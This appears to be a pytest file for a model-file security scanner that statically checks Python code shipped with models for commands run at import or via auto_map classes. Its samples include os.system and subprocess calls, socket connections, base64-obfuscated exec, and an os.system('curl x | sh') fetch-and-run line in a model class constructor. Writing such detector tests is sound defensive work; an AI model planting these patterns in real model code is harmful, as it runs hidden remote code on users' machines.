"""Python source shipped with a model, analysed statically (scanner.formats.pysource, issue 10):
what importing a module runs, what the classes an ``auto_map`` names run, obfuscation.
Sources are written here; nothing is imported or executed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from scanner_helpers import rules

from scanner.api import scan_target
from scanner.core.context import ScanContext
from scanner.core.model import BytesBlob, Finding, Verdict, worst
from scanner.formats.pysource import analyze_python


def py(text: str) -> list[Finding]:
    return analyze_python(ScanContext(), BytesBlob("modeling_x.py", text.encode()))


BENIGN_REMOTE_CODE = '''
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size: int = 8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)


def _helper(x):
    return x * math.sqrt(2)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.cache_dir = os.path.join(os.path.dirname(__file__), "cache")

    def forward(self, x: Optional[torch.Tensor] = None):
        return _helper(self.proj(x))


if __name__ == "__main__":
    import subprocess
    subprocess.run(["echo", "only when run as a script"])
'''


def test_benign_remote_code_is_policy() -> None:
    findings = py(BENIGN_REMOTE_CODE)
    assert rules(findings) == {"code.python_file_present"}, findings
    assert worst(findings) is Verdict.POLICY


@pytest.mark.parametrize("source,why", [
    ("import os\nos.system('touch /tmp/x')\n", "os.system"),
    ("import subprocess as sp\nsp.run(['id'])\n", "subprocess.run"),
    ("from os import system as s\ns('id')\n", "os.system"),
    ("import pathlib\npathlib.Path('/tmp/c').write_text('x')\n", ".write_text()"),
    ("open('/tmp/c', 'w').write('x')\n", "open() for writing"),
    ("import urllib.request\nurllib.request.urlopen('http://x')\n", "urllib.request.urlopen"),
    ("try:\n    import socket\n    socket.create_connection(('h', 1))\nexcept Exception:\n"
     "    pass\n", "socket.create_connection"),
    ("def _setup():\n    __import__('os').system('id')\n_setup()\n", "builtins.__import__"),
    ("class M:\n    x = eval('1+1')\n", "builtins.eval"),
    ("import pty\n", "imports pty"),
    ("def f(a=exec('import os')):\n    pass\n", "builtins.exec"),
], ids=["os_system", "subprocess_alias", "from_import_alias", "pathlib_write",
        "open_write", "network", "in_try", "called_function", "class_body", "pty_import",
        "default_argument"])
def test_corpus_python_file_running_a_command_at_import_is_malicious(source: str,
                                                                      why: str) -> None:
    findings = py(source)
    bad = [f for f in findings if f.rule_id == "code.dangerous_call"]
    assert bad and worst(findings) is Verdict.MALICIOUS, findings
    assert any(why in f.message for f in bad), bad
    assert all(f.evidence.startswith("line ") for f in bad)


def test_dangerous_call_only_in_an_uncalled_function_is_policy() -> None:
    findings = py("import subprocess\n\ndef gpu_info():\n"
                  "    return subprocess.check_output(['nvidia-smi'])\n")
    assert worst(findings) is Verdict.POLICY, findings


@pytest.mark.parametrize("source", [
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "def later():\n    exec(bytes.fromhex('7072696e74').decode())\n",
    "import marshal\ndef f(b):\n    return marshal.loads(b)\n",
])
def test_modelscan_obfuscated_exec_is_malicious(source: str) -> None:
    assert "code.obfuscated" in rules(py(source))


def test_unparseable_python_is_malformed() -> None:
    findings = py("def broken(:\n")
    assert worst(findings) is Verdict.MALFORMED and "code.unparseable" in rules(findings)


def _folder(tmp_path: Path, config: dict[str, object], files: dict[str, str]) -> Path:
    d = tmp_path / "m"
    d.mkdir()
    (d / "config.json").write_text(json.dumps({"model_type": "tiny", **config}))
    for name, text in files.items():
        (d / name).write_text(text)
    return d


def test_benign_remote_code_model_folder_is_policy(tmp_path: Path) -> None:
    d = _folder(tmp_path, {"auto_map": {"AutoConfig": "modeling_tiny.TinyConfig",
                                        "AutoModel": "modeling_tiny.TinyModel"}},
                {"modeling_tiny.py": BENIGN_REMOTE_CODE})
    result = scan_target(d)
    assert result.verdict is Verdict.POLICY, result.findings
    assert {"config.auto_map", "code.python_file_present"} <= rules(result.findings)


def test_other_repo_auto_map_is_policy(tmp_path: Path) -> None:
    d = _folder(tmp_path, {"auto_map": {"AutoModel": "org/other--modeling_y.Y"}}, {})
    result = scan_target(d)
    assert result.verdict is Verdict.POLICY, result.findings
    assert "config.auto_map_cross_repo" in rules(result.findings)


def test_auto_map_class_method_running_a_command_is_malicious(tmp_path: Path) -> None:
    """Not at import: in the __init__ of the class auto_map names (and in a helper it
    calls), which from_pretrained runs."""
    code = ("import os\n\ndef _fetch():\n    os.system('curl x | sh')\n\n"
            "class Evil:\n    def __init__(self, config):\n        _fetch()\n\n"
            "class Other:\n    def run(self):\n        os.system('not named by auto_map')\n")
    d = _folder(tmp_path, {"auto_map": {"AutoModel": "modeling_e.Evil"}},
                {"modeling_e.py": code})
    result = scan_target(d)
    assert result.verdict is Verdict.MALICIOUS
    bad = [f for f in result.findings if f.rule_id == "code.dangerous_call"]
    assert [f.evidence for f in bad] == ["line 4: os.system('curl x | sh')"], bad
    assert "class Evil" in bad[0].message and bad[0].path == "modeling_e.py"
